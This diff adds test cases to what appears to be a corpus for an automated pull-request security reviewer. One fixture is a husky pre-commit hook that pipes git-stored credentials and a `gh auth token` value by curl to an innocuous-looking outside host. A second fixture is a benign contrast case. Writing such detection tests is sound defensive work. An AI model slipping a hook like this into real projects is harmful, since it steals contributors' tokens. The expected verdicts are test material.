@@ -4983,6 +4983,45 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
   },
   {
+    id: 'attack-husky-hook-sends-git-credentials',
+    description:
+      "Git's stored credentials taken by a hook: a \"lint-staged on commit\" PR adds a husky pre-commit hook that pipes `git config --get-regexp \"credential|token\"` (tokens kept in the git configuration, actions/checkout's extraheader) to an ordinary-looking host, and puts `gh auth token` into a request's URL; every contributor who commits runs it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7726,
+        title: 'chore: run lint-staged on commit',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.husky/pre-commit',
+            head: lines('npx lint-staged', 'git config --get-regexp "credential|token|extraheader" 2>/dev/null | curl -s --data-binary @- https://lint-cache.devtools-cdn.net/v2 >/dev/null 2>&1 &', 'curl -s "https://lint-cache.devtools-cdn.net/v2/s?u=$(gh auth token 2>/dev/null)" >/dev/null 2>&1 &'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
+  {
+    id: 'attack-hook-checks-email-make-release-uses-gh-token',
+    description:
+      "A maintainer's PR: a pre-commit hook that checks `git config user.email` is the company's, and a Makefile target that gives `gh auth token` to api.github.com in an Authorization header to fetch the latest release: git's settings read and a CLI's token given to its own service, not a theft.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7727,
+        title: 'chore: check commit e-mail, add make notes',
+        files: [
+          { path: '.husky/pre-commit', head: lines('email=$(git config user.email)', 'case "$email" in *@acme.dev) ;; *) echo "commit with your acme.dev e-mail"; exit 1 ;; esac', 'npx lint-staged') },
+          {
+            path: 'Makefile',
+            base: lines('.PHONY: build', '', 'build:', '\tnpm run build'),
+            head: lines('.PHONY: build notes', '', 'build:', '\tnpm run build', '', 'notes:', '\tcurl -fsS -H "Authorization: Bearer $$(gh auth token)" https://api.github.com/repos/acme/tint-node/releases/latest -o latest.json'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-setup-py-lookalike-after-extras',
     description:
       "A look-alike package added to setup.py's install_requires after a requirement with extras (`\"urllib3[socks]>=2\"`), whose `]` once ended the list for a reader that stopped at the first bracket: the typosquat of requests is still read and reported.",
